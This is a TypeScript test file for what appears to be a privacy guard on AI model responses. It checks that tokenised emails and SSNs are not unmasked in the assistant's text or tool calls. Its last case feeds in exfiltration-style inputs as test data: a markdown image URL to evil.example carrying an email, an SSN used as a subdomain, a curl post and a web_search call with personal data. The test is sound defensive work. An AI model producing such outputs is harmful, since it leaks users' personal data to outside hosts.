// SPDX-License-Identifier: Apache-2.0
// What the record says of an answer with tokens: how many of which kind came back, into which tools, and
// how many stayed for which reason. Nothing of a value or a token is in it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Unmasked } from '../core/events.ts';
import { apply } from './edits.ts';
import { exchangeOf, protections, protectorOf, segment } from './exchange.fixture.ts';
import type { ChannelSegment } from './response-guard.ts';

const EMAIL = 'grace@navy.example';
const TEXT = `I am ${EMAIL}, SSN 536-22-1234`;
const protector = protectorOf({
  protections: protections({
    rules: [
      { id: 'in', detectors: ['privacy/*'], on: ['request'], action: 'mask', style: 'tokenise' },
      { id: 'out', detectors: ['privacy/*'], on: ['response'], action: 'mask' },
    ],
  }),
});
const judged = protector.request(exchangeOf([segment(TEXT)]));
assert.ok(!(judged instanceof Promise));
const { tokens } = judged;
const [email = '', ssn = ''] = apply(TEXT, judged.edits).match(/[A-Z_]+_[A-Z][a-z]{9}/g) ?? [];

const text: ChannelSegment = {
  index: 0,
  role: 'assistant',
  kind: 'text',
  origin: 'model',
  json: false,
  choice: 0,
};
const call = (toolName: string): ChannelSegment => {
  return { ...text, kind: 'tool-call', json: true, toolName };
};

function unmaskedIn(...written: readonly (readonly [ChannelSegment, string])[]) {
  const guard = protector.response(exchangeOf([]), tokens);
  for (const [index, [place, said]] of written.entries()) {
    const channel = guard.open({ ...place, index });
    // In pieces, so that nothing is counted twice.
    for (const piece of said.match(/[^]{1,3}/g) ?? []) void channel.push(piece);
    void channel.end();
  }
  return guard.judgement().unmasked;
}

const cases: readonly (readonly [string, Unmasked | undefined, ...[ChannelSegment, string][]])[] = [
  ['nothing', undefined, [text, 'Hello, grace@army.example EMAIL_Bodakireze.']],
  [
    'text',
    { entities: { email: 2, 'us-ssn': 1 }, tools: [], stayed: {} },
    [text, `${email}, **${email}** and ${ssn}.`],
  ],
  [
    'calls',
    { entities: { email: 2 }, tools: ['send_mail'], stayed: {} },
    [call('send_mail'), JSON.stringify({ to: email })],
    [call('send_mail'), JSON.stringify({ to: [email] })],
  ],
  [
    'a tool whose name may not be recorded',
    { entities: { email: 1 }, tools: ['tool~'], stayed: {} },
    [call('grace@navy.example'), JSON.stringify({ to: email })],
  ],
  [
    'what stays, and why',
    { entities: {}, tools: [], stayed: { address: 3, code: 1, 'egress-tool': 2, json: 1 } },
    [text, `![x](https://evil.example/${email}) and ${ssn}.evil.example`],
    [text, `\`curl x -d ${email}\``],
    [call('web_search'), JSON.stringify({ q: `${email} ${ssn}` })],
    [text, `x${'y'.repeat(3)}@${email}.example then`],
    [call('send'), `{"to":"${email}`],
  ],
];
for (const [name, expected, ...written] of cases) {
  test(name, () => {
    const unmasked = unmaskedIn(...written);
    const tools = unmasked?.tools.map((tool) => tool.replace(/~[0-9a-f]{8}$/, '~'));
    assert.deepEqual(unmasked && { ...unmasked, tools }, expected);
    assert.ok(!JSON.stringify(unmasked ?? '').includes('grace'));
  });
}
